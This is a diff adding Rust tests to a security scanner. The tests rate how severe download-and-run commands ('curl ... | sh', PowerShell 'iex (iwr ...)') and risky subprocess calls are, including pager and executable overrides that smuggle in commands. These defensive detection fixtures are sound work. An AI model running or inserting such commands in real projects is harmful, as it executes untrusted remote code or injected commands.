@@ -1,7 +1,7 @@
 //! What scripts and byte code are worth, and what ordinary ones are not.
 
 use weighbridge_domain::Severity;
-use weighbridge_inspect::samples::{File, one, program, script, write};
+use weighbridge_inspect::samples::{File, commands, notebook, one, program, script, source, write};
 use weighbridge_inspect::{Options, Progress, Report, scan};
 
 fn scanned(files: &[File]) -> Report {
@@ -30,6 +30,77 @@ fn what_a_script_does_at_once_is_worse_than_what_waits_for_a_call() {
     {
         assert_eq!(worst(&script::script(lines)).unwrap().0, at_once, "{lines}");
         assert_eq!(worst(&script::function(lines)).unwrap().0, waiting, "{lines}");
+    }
+}
+
+#[test]
+fn an_installer_over_an_encrypted_connection_from_a_named_host_is_low_and_any_other_is_not() {
+    let download = |files: Vec<File>| {
+        let found = scanned(&files).findings.into_iter();
+        found.filter(|one| one.rule == "command-runs-download").map(|one| one.severity).max()
+    };
+    for (address, severity) in [
+        ("https://example.org/demo.sh", Severity::Low),
+        ("http://example.org/demo.sh", Severity::Medium),
+        ("-k https://example.org/demo.sh", Severity::Medium),
+        ("$URL", Severity::Medium),
+        ("https://$HOST/demo.sh", Severity::Medium),
+        ("https://192.0.2.7/demo.sh", Severity::High),
+        ("https://demo.ngrok.io/demo.sh", Severity::High),
+        ("https://pastebin.com/raw/demo", Severity::High),
+    ] {
+        let line = format!("curl -LsSf {address} | sh");
+        for files in [
+            commands::script(&line),
+            commands::dockerfile(&format!("RUN {line}")),
+            commands::steps(&format!("    - run: {line}")),
+            one("rules.mk", format!("all:\n\t{}\n", line.replace('$', "$$"))),
+            notebook::of(&[notebook::code(&format!("!{line}"))]),
+        ] {
+            let (name, _) = &files[0];
+            assert_eq!(download(files.clone()), Some(severity), "{name}: {line}");
+        }
+    }
+    for (address, when_called) in
+        [("https://example.org", Severity::Low), ("http://example.org", Severity::High)]
+    {
+        let line = format!("os.system('curl -LsSf {address}/demo.sh | sh')");
+        assert_eq!(download(source::function("import os", &line)), Some(when_called), "{line}");
+        assert_eq!(download(source::module(&format!("import os\n{line}"))), Some(Severity::High), "{line}");
+    }
+    for (line, severity) in [
+        ("powershell -Command \"iex (iwr https://example.org/demo)\"", Severity::Low),
+        ("powershell -Command \"iex (iwr http://example.org/demo)\"", Severity::Medium),
+    ] {
+        assert_eq!(download(commands::script(line)), Some(severity), "{line}");
+    }
+}
+
+#[test]
+fn asking_a_usual_program_is_low_and_what_differs_in_one_word_is_not() {
+    let started = |files: Vec<File>| {
+        let found = scanned(&files).findings.into_iter();
+        found.filter(|one| one.rule == "source-starts-process").map(|one| one.severity).max()
+    };
+    for (command, served, loaded) in [
+        ("['git', 'rev-parse', 'HEAD']", Severity::Low, Severity::Low),
+        ("['git', '-C', 'a', 'describe', '--tags']", Severity::Low, Severity::Low),
+        ("['gcc', '--version']", Severity::Low, Severity::Low),
+        ("['nvidia-smi', '--query-gpu=name']", Severity::Low, Severity::Medium),
+        ("['system_profiler', 'SPDisplaysDataType']", Severity::Low, Severity::Medium),
+        ("['git', 'log', '--output=a']", Severity::Medium, Severity::High),
+        ("['git', 'log'], executable='echo'", Severity::Medium, Severity::High),
+        ("['./gcc', '--version']", Severity::Low, Severity::Medium),
+        ("['git', '-c', 'core.pager=echo', 'log']", Severity::Medium, Severity::High),
+        ("['git', '-c', 'safe.directory=*', 'log']", Severity::Low, Severity::Medium),
+        ("['sysctl', '-w', 'a=b']", Severity::Medium, Severity::High),
+        ("['git', 'push']", Severity::Medium, Severity::High),
+        ("'git log; echo weighbridge-demo', shell=True", Severity::Medium, Severity::High),
+        ("['echo', 'weighbridge-demo']", Severity::Medium, Severity::High),
+    ] {
+        let line = format!("subprocess.run({command})");
+        assert_eq!(started(source::forward("import subprocess", &line)), Some(served), "{line}");
+        assert_eq!(started(source::module(&format!("import subprocess\n{line}"))), Some(loaded), "{line}");
     }
 }
 
